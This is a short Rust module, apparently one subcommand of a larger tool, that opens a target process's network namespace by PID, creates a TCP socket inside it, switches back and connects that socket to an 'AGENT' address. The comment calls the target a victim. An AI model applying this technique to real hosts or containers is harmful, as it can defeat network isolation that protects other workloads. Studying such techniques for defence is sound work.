//! A socket that was made in the victim's network namespace is connected in one's own.

use std::{fs::File, net::TcpStream, os::fd::AsFd};

use anyhow::{Context, Result};
use rustix::{
    net::connect,
    thread::{LinkNameSpaceType, move_into_link_name_space},
};

use crate::common::{AGENT, ask, tcp};

pub fn run(args: &[String]) -> Result<()> {
    let pid = args.first().context("no pid")?;
    let network = Some(LinkNameSpaceType::Network);
    let own = File::open("/proc/self/ns/net")?;
    let other = File::open(format!("/proc/{pid}/ns/net"))?;
    move_into_link_name_space(other.as_fd(), network)?;
    let socket = tcp()?;
    move_into_link_name_space(own.as_fd(), network)?;
    connect(&socket, &AGENT)?;
    ask(TcpStream::from(socket))
}
